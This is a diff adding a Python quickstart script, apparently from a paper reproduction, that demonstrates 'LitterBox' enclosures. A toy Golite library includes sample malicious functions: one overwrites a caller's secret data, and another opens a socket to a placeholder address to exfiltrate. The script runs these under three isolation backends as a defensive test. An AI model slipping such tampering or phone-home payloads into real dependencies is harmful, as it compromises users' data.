@@ -1,0 +1,130 @@
+#!/usr/bin/env python3
+"""Quickstart: the paper's Figure 1 program, end to end.
+
+Builds a Golite program where `main` wraps a call into the untrusted
+`libfx` package in an enclosure (`with "secrets:R, none"`), runs it
+under all three LitterBox configurations, then demonstrates the
+enforcement by letting libfx turn malicious.
+
+Run:  python examples/quickstart.py
+"""
+
+from repro.golite import build_program
+from repro.machine import Machine, MachineConfig
+
+SECRETS = """
+package secrets
+
+// The sensitive image lives in secrets' arena (Figure 1).
+func NewImage(n int) *Image {
+    img := new(Image)
+    img.w = n
+    img.h = 1
+    img.pix = make([]int, n)
+    for i := 0; i < n; i++ {
+        img.pix[i] = i * 3
+    }
+    return img
+}
+"""
+
+LIBFX = """
+package libfx
+
+type Image struct {
+    w int
+    h int
+    pix []int
+}
+
+// Invert is the advertised functionality.
+func Invert(img *Image) *Image {
+    out := new(Image)
+    out.w = img.w
+    out.h = img.h
+    out.pix = make([]int, len(img.pix))
+    for i := 0; i < len(img.pix); i++ {
+        out.pix[i] = 255 - img.pix[i]
+    }
+    return out
+}
+
+// Corrupt is what a malicious update might do: modify the caller's
+// sensitive data in place.
+func Corrupt(img *Image) *Image {
+    img.pix[0] = 666
+    return img
+}
+
+// Phone is another payload: exfiltrate via the network.
+func Phone(img *Image) *Image {
+    sock := syscall(41, 2, 1, 0)
+    syscall(42, sock, 0x06060606, 443)
+    return img
+}
+"""
+
+MAIN_TEMPLATE = """
+package main
+
+import (
+    "libfx"
+    "secrets"
+)
+
+var checksum int
+
+func main() {{
+    img := secrets.NewImage(16)
+    // The enclosure: libfx runs with read-only access to secrets and
+    // no system calls at all.
+    rcl := with "secrets:R, none" func(im *Image) *Image {{
+        return libfx.{func}(im)
+    }}
+    out := rcl(img)
+    sum := 0
+    for i := 0; i < len(out.pix); i++ {{
+        sum = sum + out.pix[i]
+    }}
+    checksum = sum
+    println("checksum:", sum, " first secret pixel:", img.pix[0])
+}}
+"""
+
+
+def run(func: str, backend: str):
+    image = build_program([SECRETS, LIBFX, MAIN_TEMPLATE.format(func=func)])
+    machine = Machine(image, MachineConfig(backend=backend))
+    result = machine.run()
+    return machine, result
+
+
+def main() -> None:
+    print("== Benign library (Invert), all backends ==")
+    for backend in ("baseline", "mpk", "vtx"):
+        machine, result = run("Invert", backend)
+        print(f"  {backend:<9} {result.status:<8} "
+              f"stdout: {machine.stdout.decode().strip()}")
+
+    print("\n== Malicious update: modifies the sensitive image ==")
+    for backend in ("baseline", "mpk", "vtx"):
+        machine, result = run("Corrupt", backend)
+        outcome = (machine.fault_trace() if result.status == "faulted"
+                   else f"SECRET CORRUPTED: {machine.stdout.decode().strip()}")
+        print(f"  {backend:<9} {outcome}")
+
+    print("\n== Malicious update: tries to open a network connection ==")
+    for backend in ("baseline", "mpk", "vtx"):
+        machine, result = run("Phone", backend)
+        outcome = (machine.fault_trace() if result.status == "faulted"
+                   else "connection attempt went through")
+        print(f"  {backend:<9} {outcome}")
+
+    print("\n== Figure 4: the linked executable ==")
+    image = build_program([SECRETS, LIBFX,
+                           MAIN_TEMPLATE.format(func="Invert")])
+    print(image.describe_layout())
+
+
+if __name__ == "__main__":
+    main()
